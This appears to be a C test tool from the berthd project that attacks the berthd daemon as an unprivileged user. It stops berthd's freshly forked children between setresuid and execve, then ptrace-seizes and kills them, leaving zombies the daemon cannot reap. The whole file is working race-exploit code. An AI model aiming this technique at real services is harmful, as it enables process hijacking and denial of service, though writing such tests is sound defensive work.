/*
 * seizer - an attack of a service's own user: hold a half-made child, then trace and kill it
 *
 * seizer BERTHD-PID SERVICE-ENDPOINT SECONDS
 *
 * Connects, stops berthd's newest child as soon as kill(2) lets it (after setresuid, before execve), lets
 * it go on when berthd has given up waiting, seizes it after the execve, kills it and
 * does not wait: berthd has a zombie that it cannot reap while we live.  Prints how many were held and how
 * many of them seized.  Run it as a user of its own.
 */
#include <err.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "peer.h"

static void
pause_ms(int ms)
{
	struct timespec t = { .tv_nsec = ms * 1000000L };

	nanosleep(&t, NULL);
}

/* The first child of berthd that we may stop within 30 ms; 0: none. */
static pid_t
stop_child(const char *children)
{
	static pid_t last;	/* what was killed before is a zombie that takes signals, too */
	int64_t end = peer_now_ms() + 30;
	char text[4096];

	while (peer_now_ms() < end) {
		FILE *f = fopen(children, "r");
		size_t n;

		if (f == NULL)
			return 0;
		n = fread(text, 1, sizeof(text) - 1, f);
		fclose(f);
		text[n] = '\0';
		for (char *p = strtok(text, " "); p != NULL; p = strtok(NULL, " ")) {
			pid_t pid = atoi(p);

			if (pid > last && kill(pid, SIGSTOP) == 0)
				return last = pid;
		}
	}
	return 0;
}

/* True when it was stopped before its execve (which alone makes it traceable). */
static int
is_half_made(pid_t pid)
{
	pause_ms(1);
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0)
		return 1;
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return 0;
}

static int
seize(pid_t pid)
{
	int64_t end;
	int seized = 0;

	pause_ms(70);
	kill(pid, SIGCONT);
	for (end = peer_now_ms() + 20; !seized && peer_now_ms() < end;)
		seized = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
	kill(pid, SIGKILL);
	if (seized)
		pause_ms(60);
	waitpid(pid, NULL, WNOHANG);
	return seized;
}

int
main(int argc, char *argv[])
{
	struct peer_address to;
	int held = 0, seized = 0, fd;
	char children[64];
	int64_t end;
	pid_t pid;

	if (argc != 4 || atoi(argv[3]) < 1 || atoi(argv[3]) > 60)
		errx(64, "usage: seizer BERTHD-PID SERVICE-ENDPOINT SECONDS");
	if (getuid() < 60000 || getuid() == 65534)
		errx(77, "refused: run me as a user of my own");
	peer_parse(argv[2], &to);
	snprintf(children, sizeof(children), "/proc/%d/task/%d/children", atoi(argv[1]),
	    atoi(argv[1]));
	for (end = peer_now_ms() + 1000 * atoi(argv[3]); peer_now_ms() < end;) {
		if ((fd = peer_connect(&to, NULL)) < 0) {
			pause_ms(10);
			continue;
		}
		if ((pid = stop_child(children)) != 0 && is_half_made(pid)) {
			held++;
			seized += seize(pid);
		}
		close(fd);
	}
	printf("held %d seized %d\n", held, seized);
	return 0;
}
